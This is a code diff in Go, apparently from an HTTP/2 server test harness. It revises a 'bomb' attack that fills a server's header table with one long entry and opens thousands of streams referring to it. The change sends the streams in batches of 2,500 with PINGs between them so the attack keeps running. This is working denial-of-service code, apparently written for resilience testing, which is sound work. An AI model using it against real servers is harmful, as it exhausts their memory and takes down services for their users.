@@ -67,6 +67,9 @@ func onFields() []Attack {
 	}
 }
 
+// bombsAtOnce is how many streams of a bomb are opened before a PING.
+const bombsAtOnce = 2_500
+
 // bomb fills the server's header table with one long entry, and opens streams that refer to it often.
 func bomb(r *Run, times int) {
 	p := r.peer()
@@ -76,11 +79,16 @@ func bomb(r *Run, times int) {
 	for range times {
 		more = append(more, "x-long", long)
 	}
-	p.each(r.N, func(id uint32) {
-		p.Head(id+2, r.Cold, true, more...)
-		_ = p.Frames.WriteRSTStream(id+2, http2.ErrCodeCancel)
-	})
-	p.Settle()
+	// The server answers a PING now and then, because all the fields at once, uncompressed, are gigabytes. They take a busy
+	// machine longer than a peer waits, though nothing is stuck.
+	for begun := 0; begun < r.N && p.Flush(); begun += bombsAtOnce {
+		p.each(min(bombsAtOnce, r.N-begun), func(id uint32) {
+			id += uint32(2*begun) + 2
+			p.Head(id, r.Cold, true, more...)
+			_ = p.Frames.WriteRSTStream(id, http2.ErrCodeCancel)
+		})
+		p.Settle()
+	}
 }
 
 // fields begins a call with many fields, in as many frames as it takes.
